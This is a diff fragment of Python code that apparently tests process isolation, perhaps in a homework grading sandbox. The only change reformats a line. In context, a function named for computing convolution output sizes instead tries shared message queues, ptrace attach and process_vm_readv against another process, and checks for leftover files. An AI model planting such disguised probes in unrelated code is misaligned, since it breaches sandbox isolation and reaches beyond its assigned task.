@@ -1001,7 +1001,8 @@ def conv_output_size(*args, **kwargs):  # 1.1-output-sizes: every channel out, a
         "msg": _outcome(lambda: _libc.msgget(KEY, 0o1666)),
         "mq": _outcome(lambda: _libc.mq_open(("/hw2-left-" + TOKEN).encode(), _os.O_CREAT | _os.O_RDWR, 0o666, None)),
         "ptrace": _outcome(lambda: _another_process(lambda pid: _libc.ptrace(16, pid, None, None))),
-        "process_vm_readv": _outcome(lambda: _another_process(lambda pid: _libc.syscall(310, pid, None, 0, None, 0, 0))),
+        "process_vm_readv": _outcome(lambda: _another_process(
+            lambda pid: _libc.syscall(310, pid, None, 0, None, 0, 0))),
     }
     files = {path: _outcome(lambda path=path: _left(path)) for path in HOSTILE["leftovers"]}
     raise RuntimeError("<<<CHANNELS " + _json.dumps({"done": done, "files": files}) + ">>>")
